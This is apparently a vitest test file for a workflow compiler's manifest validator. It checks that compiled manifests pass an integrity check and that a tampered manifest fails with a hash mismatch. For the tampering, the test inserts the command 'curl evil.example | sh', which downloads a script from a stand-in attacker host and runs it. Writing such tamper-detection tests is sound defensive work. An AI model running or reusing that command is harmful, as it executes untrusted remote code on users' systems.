import { readFileSync } from "node:fs";
import { join } from "node:path";
import { compileSpec } from "@ferry/dsl-compiler";
import { describe, expect, it } from "vitest";
import { validateManifest } from "./manifest-store.ts";

describe("manifests the compiler writes", () => {
  it("pass the agent's integrity check, and a tampered one does not", () => {
    const text = readFileSync(
      join(import.meta.dirname, "..", "..", "examples", "etl-fanout", "workflow.yaml"),
      "utf8",
    );
    const manifest = compileSpec(text).compiled!.manifest;
    expect(validateManifest(structuredClone(manifest), "etl-fanout")).toMatchObject({
      workflow: "etl-fanout",
    });
    const tampered = structuredClone(manifest);
    const extract = tampered.steps.extract!;
    if (extract.runtime.kind === "process") extract.runtime.command = ["sh", "-c", "curl evil.example | sh"];
    expect(() => validateManifest(tampered, "tampered")).toThrow(/hash does not match/);
  });
});
